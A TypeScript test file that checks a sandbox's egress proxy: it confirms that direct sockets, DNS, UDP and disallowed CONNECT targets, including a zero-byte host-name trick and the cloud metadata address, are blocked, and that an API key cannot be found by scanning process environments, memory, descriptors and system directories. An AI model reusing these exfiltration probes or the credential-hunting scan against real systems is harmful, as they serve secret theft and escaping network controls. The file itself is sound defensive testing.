/** From inside a real sandbox: there is one way out, it goes only where it should, and the key is nowhere to be found. */
import { createSocket } from 'node:dgram';
import { type AddressInfo, createServer } from 'node:net';
import { hostname, networkInterfaces } from 'node:os';
import { expect, test } from 'vitest';
import { KEY } from './outside-server.ts';
import { Boxed } from './sandboxed-program.ts';

/** Tries every way out that is not the proxy, then the proxy with all that it must refuse. */
const waysOut = (port: number, udp: number) => `
const net = require('node:net'), dgram = require('node:dgram'), dns = require('node:dns');
const say = (what, how) => console.log(what + ': ' + how);
const direct = (host, to) => new Promise((done) => {
  // What is here answers, however slowly; of the rest nobody may ever say anything.
  const socket = net.connect({ host, port: to, timeout: /^127|^::1/.test(host) ? 60000 : 2000 });
  const end = (how) => { say('direct ' + host, how); socket.destroy(); done(); };
  socket.on('connect', () => end('CONNECTED')).on('error', ({ code }) => end(code)).on('timeout', () => end('timeout'));
});
const proxied = (target) => new Promise((done) => {
  const socket = net.connect(40861, '127.0.0.1');
  let text = '';
  socket.on('data', (part) => { text += part; socket.end(); }).on('error', () => {});
  socket.on('close', () => { say('proxy ' + JSON.stringify(target), text.split('\\r\\n')[0]); done(); });
  socket.write(Buffer.from('CONNECT ' + target + ' HTTP/1.1\\r\\nHost: x\\r\\n\\r\\n', 'latin1'));
});
const resolver = (server) => new Promise((done) => {
  const one = new dns.Resolver({ timeout: 500, tries: 1 });
  one.setServers([server]);
  one.resolveTxt('canary.exfil.test', (error) => { say('dns ' + server, error ? error.code : 'ANSWERED'); done(); });
});
const packet = (host) => new Promise((done) => {
  const socket = dgram.createSocket('udp4');
  socket.on('error', ({ code }) => { say('udp ' + host, code); done(); });
  socket.send('canary', ${udp}, host, (error) => { say('udp ' + host, error ? error.code : 'sent'); socket.close(done); });
});
(async () => {
  for (const host of ['127.0.0.1', '169.254.169.254', '10.0.0.1', '192.0.2.1', '::1']) await direct(host, ${port});
  for (const server of ['127.0.0.1:${udp}', '192.0.2.53']) await resolver(server);
  await packet('127.0.0.1'); await packet('192.0.2.1');
  await new Promise((done) => dns.lookup('good.test', (error) => { say('lookup', error ? error.code : 'FOUND'); done(); }));
  for (const target of ['evil.test:${port}', 'good.test:22', '127.0.0.1:${port}', 'loop.test:${port}', 'meta.test:${port}',
    'evil.test\\0.good.test:${port}', 'good.test:${port}']) await proxied(target);
  const server = net.createServer().listen(${port}, '0.0.0.0', () => { say('listen', 'inside only'); server.close(); });
})();`;

test('PR-10: other hosts, ports, addresses, private and metadata places, names elsewhere and direct sockets lead nowhere', async () => {
  await using boxed = await Boxed.start();
  const { outside } = boxed;
  const dns: string[] = [];
  const udp = createSocket('udp4').on('message', (bytes) => dns.push(bytes.toString('latin1')));
  await new Promise<void>((resolve) => udp.bind(0, '127.0.0.1', resolve));
  try {
    outside.names = { 'loop.test': ['127.0.0.1'], 'meta.test': ['169.254.169.254'] };
    const { port } = outside;
    const allow = [
      { host: 'good.test', port, private: true },
      { host: 'loop.test', port },
      { host: 'meta.test', port, private: true },
    ];
    await using proxy = await outside.open({ allow });
    const text = waysOut(port, udp.address().port);
    const { stdout, stderr, end } = await boxed.script(text, proxy);
    expect({ stderr, end }).toEqual({ stderr: '', end: { how: 'exit', code: 0 } });
    const lines = stdout.trim().split('\n');
    const refused = lines.filter((line) => line.startsWith('proxy ') && / 403 /.test(line));
    expect(refused).toHaveLength(6);
    expect(lines.filter((line) => /: (?:CONNECTED|ANSWERED|FOUND)$/.test(line))).toEqual([]);
    expect(lines.filter((line) => line.startsWith('direct '))).toHaveLength(5);
    // The control: what is allowed works from the very same place.
    expect(lines).toContain(`proxy "good.test:${port}": HTTP/1.1 200 Connection established`);
    expect(outside.connections).toBe(1);
    expect(dns).toEqual([]);
    const denied = outside.logged
      .filter(({ message }) => message === 'egress_denied')
      .map(({ facts }) => facts['reason']);
    expect(denied).toEqual([
      'this host is not on the list',
      'this port of the host is not on the list',
      'an address instead of a name',
      'it leads to 127.0.0.1, a private address',
      'it leads to 169.254.169.254, which is never allowed',
      'the name holds a zero byte',
    ]);
    expect(proxy.report().decisions.filter(({ allowed }) => !allowed)).toHaveLength(6);

    // And the control without the sandbox's network: the same program reaches the listener and the name server.
    const open = await boxed.run(['/bin/sh', '-c', 'cat >/tmp/s.cjs; /run/supervisor/node /tmp/s.cjs'], null, {
      input: text.replace(/for \(const target[\s\S]*?await proxied\(target\);/, '').replace('server.listen', 'void'),
      policy: { kind: 'prepare', network: 'host' },
    });
    expect(open.stdout).toContain('direct 127.0.0.1: CONNECTED');
    expect(dns.join()).toMatch(/canary/);
  } finally {
    udp.close();
  }
});

test('a name of the system’s hosts file that leads to the host itself is refused', async () => {
  await using boxed = await Boxed.start();
  const { systemResolve } = await import('../../src/hands/egress/connect.ts');
  const { EgressProxies } = await import('../../src/hands/egress/proxies.ts');
  await using proxy = new EgressProxies({ dir: `${boxed.outside.dir}/e`, log: () => {}, resolve: systemResolve });
  const { port } = boxed.outside;
  const curl = ['/bin/sh', '-c', `curl -sS -x http://127.0.0.1:40861 http://localhost:${port}/`] as const;
  await using closed = await proxy.open(boxed.outside.policy({ allow: [{ host: 'localhost', port }] }));
  expect((await boxed.run([...curl], closed)).stdout).toMatch(
    /refused this: it leads to (127\.0\.0\.1|::1), a private/,
  );
  await using open = await proxy.open(boxed.outside.policy({ allow: [{ host: 'localhost', port, private: true }] }));
  expect((await boxed.run([...curl], open)).stdout).toBe('hello from outside');
});

test('IF-24: a database of the host without a password is out of reach, by every name and address it has', async () => {
  await using boxed = await Boxed.start();
  let commands = 0;
  const redis = createServer((socket) => {
    socket.on('data', () => {
      commands += 1;
      socket.write('+PONG\r\n');
    });
    socket.on('error', () => {});
  });
  await new Promise<void>((resolve) => redis.listen(0, '0.0.0.0', resolve));
  try {
    const { port } = redis.address() as AddressInfo;
    const own = Object.values(networkInterfaces()).flatMap((each) => (each ?? []).map(({ address }) => address));
    const names = [
      'localhost',
      'redis.test',
      hostname()
        .toLowerCase()
        .replaceAll(/[^a-z0-9.-]/g, ''),
    ];
    const text = `
const net = require('node:net');
const ping = (how, options, before) => new Promise((done) => {
  const socket = net.connect({ timeout: 60000, ...options });
  let text = '';
  socket.on('connect', () => socket.write(before + '*1\\r\\n$4\\r\\nPING\\r\\n'));
  socket.on('data', (part) => { text += part; if (/PONG|403/.test(text)) socket.destroy(); });
  socket.on('error', ({ code }) => { text += code; }).on('timeout', () => socket.destroy());
  socket.on('close', () => { console.log(how, /PONG/.test(text) ? 'PONG' : 'nothing'); done(); });
});
(async () => {
  for (const host of ${JSON.stringify([...own, 'localhost'])}) await ping('direct ' + host, { host, port: ${port} }, '');
  for (const host of ${JSON.stringify([...own, ...names])})
    await ping('proxy ' + host, { host: '127.0.0.1', port: 40861 }, 'CONNECT ' + host + ':${port} HTTP/1.1\\r\\nHost: x\\r\\n\\r\\n');
})();`;
    // Even named on the list they lead to a private address, which only the operator's further word allows.
    await using proxy = await boxed.outside.open({ allow: names.map((host) => ({ host, port })) });
    const { stdout, stderr } = await boxed.script(text, proxy);
    expect(stderr).toBe('');
    expect(
      stdout
        .trim()
        .split('\n')
        .filter((line) => !line.endsWith(' nothing')),
    ).toEqual([]);
    expect(stdout.trim().split('\n')).toHaveLength(2 * own.length + 1 + names.length);
    expect(commands).toBe(0);
    // With that word there is a way, but for TLS and HTTP alone; the control: what is asked that way arrives.
    await using open = await boxed.outside.open({ allow: [{ host: 'redis.test', port, private: true }] });
    expect((await boxed.script(text, open)).stdout).toContain('proxy redis.test nothing');
    expect(commands).toBe(0);
    await boxed.run(['/bin/sh', '-c', `curl -sS -x http://127.0.0.1:40861 http://redis.test:${port}/`], open);
    expect(commands).toBe(1);
    const bare = await boxed.script(text, null, { policy: { kind: 'prepare', network: 'host' } });
    expect(bare.stdout).toContain('direct 127.0.0.1 PONG');
  } finally {
    redis.close();
  }
});

/** Looks everywhere a process can look. */
const SEARCH = `
const fs = require('node:fs'), path = require('node:path');
const needle = Buffer.from(process.argv[2].split('').reverse().join(''));
const found = [];
const look = (file) => { try { if (fs.readFileSync(file).includes(needle)) found.push(file); } catch {} };
const memory = (pid) => {
  try {
    const fd = fs.openSync('/proc/' + pid + '/mem', 'r');
    for (const line of fs.readFileSync('/proc/' + pid + '/maps', 'latin1').split('\\n')) {
      const [, from, to, mode, name] = /^([0-9a-f]+)-([0-9a-f]+) (\\S+) \\S+ \\S+ \\S+ *(.*)$/.exec(line) ?? [];
      if (!from || mode[0] !== 'r' || mode[1] !== 'w' || /^\\[v/.test(name)) continue;
      const size = Math.min(parseInt(to, 16) - parseInt(from, 16), 64 << 20);
      const bytes = Buffer.alloc(size);
      try { fs.readSync(fd, bytes, 0, size, parseInt(from, 16)); } catch { continue; }
      if (pid !== String(process.pid) && bytes.includes(needle)) found.push('/proc/' + pid + '/mem');
    }
  } catch {}
};
const walk = (dir, depth) => {
  let names = [];
  try { names = fs.readdirSync(dir, { withFileTypes: true }); } catch { return; }
  for (const entry of names) {
    const full = path.join(dir, entry.name);
    if (entry.isDirectory()) { if (depth > 0) walk(full, depth - 1); }
    else if (entry.isFile()) { try { if (fs.statSync(full).size < 4 << 20) look(full); } catch {} }
  }
};
const http = require('node:http');
http.get('http://127.0.0.1:40861/with-key', (response) => {
  response.resume().on('end', () => {
    if (Object.values(process.env).some((value) => value.includes(needle.toString()))) found.push('environment');
    for (const pid of fs.readdirSync('/proc').filter((name) => /^\\d+$/.test(name))) {
      for (const name of ['environ', 'cmdline', 'maps', 'comm', 'status']) look('/proc/' + pid + '/' + name);
      memory(pid);
      try { for (const fd of fs.readdirSync('/proc/' + pid + '/fd')) {
        const at = '/proc/' + pid + '/fd/' + fd;
        if (fs.statSync(at).isFile()) look(at);
      } } catch {}
    }
    for (const dir of ['/workspace', '/tmp', '/run', '/etc', '/dev/shm', '/home', '/root', '/var', '/env']) walk(dir, 6);
    console.log(JSON.stringify({ status: response.statusCode, found }));
  });
});`;

test('the key is in no environment, file, argument, descriptor or process inside, while requests carry it', async () => {
  await using boxed = await Boxed.start();
  const { outside } = boxed;
  await using proxy = await outside.open({ route: outside.route() });
  // Backwards, so that the search does not find its own question.
  const asked = KEY.split('').reverse().join('');
  const path = '/tmp/home/search.cjs';
  const search = (policy: object, files: { path: string; text: string }[] = []) =>
    boxed.run(['/run/supervisor/node', path, asked], proxy, {
      files: [{ path, text: SEARCH }, ...files],
      policy: { env: { PATH: '/usr/bin:/bin', HOME: '/tmp/home', ...policy } },
    });
  const { stdout, stderr } = await search({});
  expect(stderr).toBe('');
  expect(JSON.parse(stdout)).toEqual({ status: 200, found: [] });
  expect(outside.heard.at(-1)).toMatchObject({ url: '/base/with-key', headers: { 'x-api-key': KEY } });

  const passed = JSON.parse((await search({ API_KEY: KEY }, [{ path: '/tmp/home/.key', text: KEY }])).stdout);
  expect(passed.found).toEqual(expect.arrayContaining(['environment', '/tmp/home/.key']));
  expect(passed.found.filter((place: string) => place.endsWith('/environ')).length).toBeGreaterThan(1);
  expect(passed.found.filter((place: string) => place.endsWith('/mem')).length).toBeGreaterThan(0);
});
